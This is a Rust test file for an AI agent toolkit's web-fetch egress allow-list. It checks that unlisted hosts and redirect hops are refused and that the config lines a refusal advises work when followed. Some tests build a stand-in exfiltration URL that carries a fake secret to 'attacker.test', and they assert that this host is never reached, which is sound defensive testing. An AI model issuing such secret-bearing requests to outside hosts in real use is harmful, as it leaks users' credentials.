//! `webfetch` under the egress allow-list (`[net] egress = "allowlist"`, the default): every
//! hop of a redirect chain is judged, by the host the hop names. A test server on 127.0.0.2,
//! reachable for the private-address rules through `[net] allow`, stands in for a public host;
//! the scripted resolver gives it names.

use vak_tool_net::NetSettings;

use crate::support::{
    SERVER_IP, Scripted, Server, addrs, context, fetch_with, html, redirect, response,
};

const SECRET: &str = "k=sekrit-9a7e";

/// The default allow-list with these `allow_domains`; 127.0.0.2 let through by `[net] allow`.
fn settings(allow_domains: &[String]) -> NetSettings {
    let mut settings = NetSettings::default().with_allow([format!("{SERVER_IP}/32")]);
    settings.guard = settings
        .guard
        .with_allow_domains(allow_domains.iter().cloned());
    settings
}

#[tokio::test]
async fn an_unlisted_host_is_refused_with_the_line_to_add_and_never_reached() {
    let server = Server::start(|_| html("<p>stolen</p>")).await;
    let port = server.port();
    let resolver = Scripted::new([addrs(&[SERVER_IP])]);
    let webfetch = vak_tool_net::WebFetch::new(&settings(&[])).with_resolver(resolver.clone());
    let dir = tempfile::tempdir().unwrap();
    for url in [
        format!("http://attacker.test:{port}/?{SECRET}"),
        format!("http://{SERVER_IP}:{port}/?{SECRET}"),
    ] {
        let out = fetch_with(&webfetch, &context(&dir), &url, "markdown").await;
        assert!(out.is_error, "{out:?}");
        let text = out.text_content();
        assert!(text.contains("is not on the egress allow-list"), "{text}");
        assert!(text.contains("  [net]\n  allow_domains = [\""), "{text}");
        assert!(text.contains(&format!(":{port}\"]")), "{text}");
    }
    assert!(server.requests().is_empty(), "the stand-in was reached");
    assert!(resolver.calls().is_empty(), "{:?}", resolver.calls());
}

#[tokio::test]
async fn every_hop_of_a_redirect_chain_is_judged() {
    let attacker = Server::start(|_| html("<p>stolen</p>")).await;
    let to = format!("http://attacker.test:{}/?{SECRET}", attacker.port());
    let allowed = Server::start(move |request| match request.path.as_str() {
        "/go" => redirect("302 Found", &to),
        _ => response("404 Not Found", &[], b""),
    })
    .await;
    let listed = [format!("docs.test:{}", allowed.port())];
    // docs.test, then attacker.test (never asked for: refused before the lookup).
    let resolver = Scripted::new([addrs(&[SERVER_IP]), addrs(&[SERVER_IP])]);
    let webfetch = vak_tool_net::WebFetch::new(&settings(&listed)).with_resolver(resolver.clone());
    let dir = tempfile::tempdir().unwrap();
    let url = format!("http://docs.test:{}/go", allowed.port());
    let out = fetch_with(&webfetch, &context(&dir), &url, "markdown").await;
    assert!(out.is_error, "{out:?}");
    let text = out.text_content();
    assert!(text.contains("hop: redirect 1 of the chain"), "{text}");
    assert!(
        text.contains(&format!(
            "allow_domains = [\"docs.test:{}\", \"attacker.test:{}\"]",
            allowed.port(),
            attacker.port()
        )),
        "{text}"
    );
    assert_eq!(allowed.requests().len(), 1);
    assert!(attacker.requests().is_empty(), "the stand-in was reached");
    assert_eq!(resolver.calls(), ["docs.test"]);
}

#[tokio::test]
async fn following_the_advice_lets_the_fetch_through() {
    let server = Server::start(|_| html("<p>docs page</p>")).await;
    let port = server.port();
    let url = format!("http://docs.test:{port}/");
    let dir = tempfile::tempdir().unwrap();
    let refused = vak_tool_net::WebFetch::new(&settings(&[]))
        .with_resolver(Scripted::new([addrs(&[SERVER_IP])]));
    let text = fetch_with(&refused, &context(&dir), &url, "markdown")
        .await
        .text_content();
    // The advised line, parsed as the person would paste it.
    let line = text
        .lines()
        .find_map(|line| line.trim().strip_prefix("allow_domains = "))
        .unwrap();
    let entries: Vec<String> = serde_json::from_str(line).unwrap();
    let allowed = vak_tool_net::WebFetch::new(&settings(&entries))
        .with_resolver(Scripted::new([addrs(&[SERVER_IP])]));
    let out = fetch_with(&allowed, &context(&dir), &url, "markdown").await;
    assert!(!out.is_error, "{out:?}");
    assert!(out.text_content().contains("docs page"));
}

/// The `[net]` lines a refusal advises, parsed as the person would paste them: `allow` and
/// `allow_domains` (TOML arrays of strings, which read as JSON).
fn advised_lines(text: &str) -> (Vec<String>, Vec<String>) {
    let list = |key: &str| -> Vec<String> {
        text.lines()
            .find_map(|line| line.trim().strip_prefix(key))
            .map(|value| serde_json::from_str(value).unwrap())
            .unwrap_or_default()
    };
    (list("allow = "), list("allow_domains = "))
}

fn settings_from(allow: Vec<String>, allow_domains: Vec<String>) -> NetSettings {
    let mut settings = NetSettings::default().with_allow(allow);
    settings.guard = settings.guard.with_allow_domains(allow_domains);
    settings
}

#[tokio::test]
async fn a_local_server_is_reached_by_following_the_refusals_advice() {
    // A development server on a loopback address, fetched by its address and as `localhost`.
    let (on_one, _) = vak_test_support::net::origin_on(
        std::net::IpAddr::V4(std::net::Ipv4Addr::LOCALHOST),
        String::new(),
    )
    .await;
    let (on_two, _) = vak_test_support::net::origin(String::new()).await;
    let dir = tempfile::tempdir().unwrap();
    for url in [
        format!("http://{on_two}/"),
        format!("http://localhost:{}/", on_one.port()),
    ] {
        let refused = vak_tool_net::WebFetch::default();
        let out = fetch_with(&refused, &context(&dir), &url, "markdown").await;
        assert!(out.is_error, "{out:?}");
        let text = out.text_content();
        assert!(!text.contains("`bash` with curl"), "{text}");
        assert!(!text.contains("intranet"), "{text}");
        let (allow, allow_domains) = advised_lines(&text);
        assert!(!allow.is_empty() && !allow_domains.is_empty(), "{text}");
        // `localhost` is refused by name: the advice says which URL to fetch instead.
        let url = match text.split_once("write its address instead (") {
            Some((_, rest)) => rest.split_once(')').unwrap().0.to_owned(),
            None => url,
        };
        let following = vak_tool_net::WebFetch::new(&settings_from(allow, allow_domains));
        let out = fetch_with(&following, &context(&dir), &url, "raw").await;
        assert!(!out.is_error, "{url}: {out:?}");
        assert!(out.text_content().contains("hello"), "{out:?}");
    }
}

#[test]
fn a_blocked_port_is_let_through_by_following_the_refusals_advice() {
    let url = format!("http://{SERVER_IP}:10080/");
    let allow = vec![format!("{SERVER_IP}/32")];
    let guard = vak_guard::Guard::new(&settings_from(allow.clone(), Vec::new()).guard);
    let refusal = guard.check_url(&url, &vak_guard::Chain::new()).unwrap_err();
    let text = refusal.to_string();
    assert!(text.contains("port 10080"), "{text}");
    assert!(!text.contains("`bash` with curl"), "{text}");
    let (_, allow_domains) = advised_lines(&text);
    assert_eq!(allow_domains, [format!("{SERVER_IP}:10080")], "{text}");
    let following = vak_guard::Guard::new(&settings_from(allow, allow_domains).guard);
    assert!(
        following.check_url(&url, &vak_guard::Chain::new()).is_ok(),
        "{text}"
    );
}
